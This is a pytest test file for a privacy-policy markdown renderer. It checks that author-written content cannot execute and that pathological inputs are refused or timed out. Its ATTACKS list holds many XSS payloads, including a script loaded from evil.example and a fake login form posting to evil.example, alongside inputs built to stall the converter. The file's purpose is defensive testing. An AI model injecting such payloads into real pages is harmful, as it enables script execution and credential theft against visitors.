"""Rendering: what an author writes is shown, and nothing in it can act."""

import re
import subprocess
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from policies.rendering import (
    NESTING_LIMIT,
    RENDERER,
    TextNotConvertible,
    TextTooNested,
    TextTooSlow,
    may_be_slow,
    nesting,
    render,
    render_apart,
    render_here,
    sanitise,
)

pytestmark = pytest.mark.pure

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <script>alert(1)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](\tjavascript:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="&#1;javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](https://shop.example){: onclick=alert(1) }",
    "# Heading {: onmouseover=alert(1) style=position:fixed }",
    "A paragraph.\n{: onclick=alert(1) }",
    '<p onclick="alert(1)">text</p>',
    '<div onmouseover="alert(1)" markdown="1">text</div>',
    '<details open ontoggle="alert(1)"><summary>more</summary></details>',
    '<img src="x" onerror="alert(1)">',
    "![](x){: onerror=alert(1) }",
    '![alt](https://evil.example/pixel.gif "title")',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload="alert(1)"><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<style>body { display: none }</style>",
    '<p style="background: url(javascript:alert(1))">text</p>',
    '<table><tr><td style="background:url(//evil.example);text-align:left">x</td></tr></table>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    '<object data="x"></object><embed src="x">',
    '<video src="x" onerror="alert(1)"></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '<abbr title="x" onclick="alert(1)">x</abbr>',
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "Note[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
]
# Written in pieces and put together by chance, these make the openings that parsers disagree about.
PIECES = st.sampled_from(
    [
        *("<script", "</script", "<svg", "<p", "</p", "</div>", "<!--", "-->", "<", ">", "/>", "<![CDATA["),
        *("]]>", "<?php", "?>", "'", '"', "`", ")", "]", "*", "![", "[x](", "[^1]", "javascript:"),
        *("JAVASCRIPT:", "data:", "&#106;", "&#x6A;", "&lt;", "alert(1)", "<img src=x", "<a href="),
        *("<td style=", "<div markdown=1>", " onerror=", " onclick='", ' onload="', "java\nscript:"),
        *("{: onclick=x }", "{: #id }", "# ", "- ", "1. ", "> ", "[x]: ", "[^1]: ", "*[a]: ", " ", "\n"),
        *("\n\n", "\t", "    ", "| a | b |\n|:-|-:|\n", "```\n", "~~~\n"),
    ]
)
MARKDOWN = st.lists(PIECES | st.text(max_size=5), max_size=25).map("".join)
# What browsers leave out of an address before they look for its scheme (WHATWG URL, section 4.4).
IGNORED_IN_ADDRESSES = re.compile(r"\A[\x00-\x20]+|[\t\n\r]")
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


def refuse_activity(html: str) -> None:
    """Fail where a browser could find anything in `html` that acts, loads or covers the page."""
    for element in lxml_html.fragment_fromstring(html, create_parent="article").iterdescendants():
        assert isinstance(element.tag, str), f"a comment or instruction in {html}"
        assert element.tag not in {"script", "style", "img", "iframe", "svg", "math", "form", "base", "h1"}
        for name, value in element.attrib.items():
            assert not name.startswith("on"), html
            assert name != "style", html
            scheme = SCHEME.match(IGNORED_IN_ADDRESSES.sub("", value)) if name == "href" else None
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"}, html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_an_author_can_write_acts(attack: str) -> None:
    html = render(f"Before.\n\n{attack}\n\nAfter.")

    refuse_activity(html)
    assert "<script" not in html.lower()


@given(MARKDOWN)
def test_no_mixture_of_markdown_and_html_yields_anything_that_acts(body: str) -> None:
    html = render(body)

    refuse_activity(html)
    assert "<script" not in html.lower()


@given(MARKDOWN)
def test_sanitising_what_was_rendered_changes_nothing_more(body: str) -> None:
    html = render(body)

    assert sanitise(html) == html


def test_what_stands_around_an_attack_is_still_shown() -> None:
    html = render("Before.\n\n<script>alert(1)</script>\n\n*After* the [shop](https://shop.example/).")

    assert html == (
        "<p>Before.</p>\n\n\n"
        '<p><em>After</em> the <a href="https://shop.example/" rel="noopener noreferrer">shop</a>.</p>'
    )


@pytest.mark.parametrize(
    ("body", "levels"),
    [
        ("## A\n\n### B", ["h2", "h3"]),
        ("# A\n\n## B\n\n# C", ["h2", "h3", "h2"]),
        ("A\n=\n\nB\n-", ["h2", "h3"]),
        ("# A\n\n###### B", ["h2", "h6"]),
        ("<h1>A</h1>\n\n## B", ["h2", "h3"]),
        ("<H1 id=a>A</H1>", ["h2"]),
        ("`<h1>`\n\n## B", ["h2"]),
    ],
)
def test_headings_begin_below_the_title_of_the_page(body: str, levels: list[str]) -> None:
    html = render(body)

    assert re.findall(r"<(h\d)", html) == levels
    assert re.findall(r"</(h\d)", html) == levels


def test_every_heading_has_an_id_to_link_to() -> None:
    html = render("## What we keep\n\n## What we keep\n\n## Cookies {: #biscuits }")

    assert re.findall(r'<h2 id="([^"]+)">', html) == ["what-we-keep", "what-we-keep_1", "biscuits"]


def test_links_within_the_text_and_its_notes_lead_somewhere() -> None:
    html = render("See [below](#what-we-keep).[^1]\n\n## What we keep\n\n[^1]: A note.")

    targets = set(re.findall(r'href="#([^"]+)"', html))
    assert {"what-we-keep", "fn:1", "fnref:1"} <= targets
    assert targets <= set(re.findall(r'id="([^"]+)"', html))


def test_tables_keep_the_alignment_of_their_columns() -> None:
    html = render("| Data | Days |\n|:-----|-----:|\n| Orders | 30 |")

    cells = re.findall(r'<(t[hd]) align="(\w+)">(\w+)<', html)
    assert cells == [
        ("th", "left", "Data"),
        ("th", "right", "Days"),
        ("td", "left", "Orders"),
        ("td", "right", "30"),
    ]


def test_what_policies_are_made_of_is_kept() -> None:
    html = render(
        "1. First\n2. Second\n\n- item\n\nTerm\n: Meaning\n\n> Quoted\n\n`code` **bold** <u>under</u>\n\n"
        "Call [us](tel:+4930123) or [write](mailto:privacy@shop.example). H~2~O<br>next"
    )

    for tag in ("ol", "ul", "dl", "dt", "dd", "blockquote", "code", "strong", "u", "br"):
        assert f"<{tag}" in html
    assert 'href="tel:+4930123"' in html
    assert 'href="mailto:privacy@shop.example"' in html


def test_rendering_the_same_text_twice_gives_the_same_bytes() -> None:
    body = "# A\n\nText[^1]\n\n| a |\n|---|\n| b |\n\n[^1]: Note."

    assert render(body) == render(body)


@pytest.mark.parametrize("depth", [NESTING_LIMIT + 1, 2_000])
def test_a_text_nested_too_deeply_to_be_compared_is_refused(depth: int) -> None:
    with pytest.raises(TextTooNested, match="Flatten it"):
        render("<div>" * depth + "hidden from every comparison")


def test_a_text_nested_as_deeply_as_allowed_is_rendered() -> None:
    html = render("<div>" * NESTING_LIMIT + "seen")

    assert nesting(html) == NESTING_LIMIT
    assert "seen" in html


def test_the_release_of_the_renderer_is_named() -> None:
    assert re.fullmatch(r"markdown [\d.]+, nh3 [\d.]+, rules \d+", RENDERER)


# Each of these, repeated, takes the converter from a second to hours.
SLOW = [
    *("[", "![", "[a", "[a](", '[a](b "c) ', "[](", "<![", "<a ", "a<", "<a href='", '<b c=">" ', "<a b="),
    *("`` `", "a\n=\n", "a\n-\n", "- \n", "* * *\n", "-\n", "#\n", "# a\n", "# *a*\n", "\\[", ")\\", "> "),
    *("*[a]: b\n", "[TOC]\n\n# a\n\n", "[^1]: a\n", "- 1. ", "1. ", "\u0661. ", "a\r=\r", "-\r\n", "\t"),
]


def honest(sections: int) -> str:
    """Give what policies hold, some 160 words a section."""
    return "\n\n".join(
        f"## {number}. What we keep\n\nWe keep *orders* (see [below](#what-we-keep)) {number} **years**.\n"
        'It’s the law. Ask <a href="mailto:us@shop.example">us</a> or look at <https://shop.example>.\n\n'
        + "Nobody else reads what you write, and nothing is sold. " * 8
        + "\n\n- one thing\n- another\n\n"
        + "Whoever asks is told what is kept, where, and why. " * 5
        for number in range(sections)
    )


@pytest.mark.parametrize("piece", SLOW)
def test_whatever_may_be_slow_is_rendered_where_it_can_be_stopped(piece: str) -> None:
    assert may_be_slow(piece * (60_000 // len(piece)))


@pytest.mark.parametrize(
    "body",
    [
        "*[a]: " + "b" * 9_000 + "\n\n" + "a " * 9_000,
        "[TOC]\n\n" + "# a\n\n" * 200,
        "[a]:\n" + "'\"" * 9_000 + ": a",
        "1. " * 900 + "word " * 9_000 + "\n: x",
        "# a" + " " * 59_000 + "b",
        "a " * 60_000,
    ],
)
def test_what_few_signs_or_great_length_may_make_slow_is_rendered_there_too(body: str) -> None:
    assert may_be_slow(body)


def test_an_honest_text_is_rendered_in_this_process_without_waiting_for_another(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("policies.rendering.APART", "raise SystemExit('This process was not needed.')")

    html = render(honest(40))

    assert html.count("<h2") == 40


@pytest.mark.parametrize("body", ["[" * 60_000, "- \n" * 20_000, "# Heading\n\n" + "<![" * 20_000])
def test_a_text_made_to_be_slow_is_refused_when_its_time_is_over(
    monkeypatch: pytest.MonkeyPatch, body: str
) -> None:
    monkeypatch.setattr("policies.rendering.SECONDS", 0.5)

    with pytest.raises(TextTooSlow, match="takes too long"):
        render(body)


def test_both_conversions_of_a_text_with_headings_share_one_process_and_its_time(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    started = []
    run = subprocess.run

    def start(command: list[str], **options: Any) -> object:
        started.append(float(command[-1]))
        return run(command, **options)

    monkeypatch.setattr("policies.rendering.subprocess.run", start)

    html = render("[TOC]\n\n# Top\n\n## Below\n\n" + "And so on. " * 50)

    assert re.findall(r"<(h\d)", html) == ["h2", "h3"]
    assert len(started) == 1
    assert started[0] < 3


def test_a_long_honest_text_has_the_time_it_needs() -> None:
    body = honest(1_300)

    html = render(body)

    assert len(body.split()) > 200_000
    assert html.count("<h2") == 1_300


def test_a_text_reads_the_same_to_the_byte_wherever_it_was_rendered() -> None:
    body = f"# Ä\r\n\r\nAn “é” and &#13; that\rends.\n\n{honest(2)}"

    assert render_apart(body) == render_here(body)


@pytest.mark.parametrize("rendered", [render_here, render_apart])
@pytest.mark.parametrize(
    "body", [f"# a_{'1' * 5_000}\n\n" * 2, f"<a href='&#{'1' * 5_000};'>a</a>", "half \ud800"]
)
def test_a_text_on_which_the_converter_fails_is_refused_by_name(
    rendered: Callable[[str], str], body: str
) -> None:
    with pytest.raises(TextNotConvertible, match="very long numbers") as refused:
        rendered(body)

    assert refused.value.__cause__ is not None


def test_the_refusal_tells_what_failed_in_the_other_process() -> None:
    with pytest.raises(TextNotConvertible) as refused:
        render_apart("half \ud800")

    assert refused.value.__cause__ is not None
    assert "UnicodeEncodeError" in "".join(refused.value.__cause__.__notes__)


def test_a_fault_of_the_other_process_is_no_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("policies.rendering.APART", "import nothing_of_this_name")

    with pytest.raises(subprocess.CalledProcessError) as failed:
        render_apart("Text.")

    assert "ModuleNotFoundError" in "".join(failed.value.__notes__)


@pytest.mark.parametrize("body", ["<div>" * 101 + "hidden", "> " * 2_000 + "quoted", "- 1. " * 500])
def test_what_nests_too_deeply_for_the_other_process_is_refused_by_name(body: str) -> None:
    with pytest.raises(TextTooNested, match="Flatten it"):
        render_apart(body)
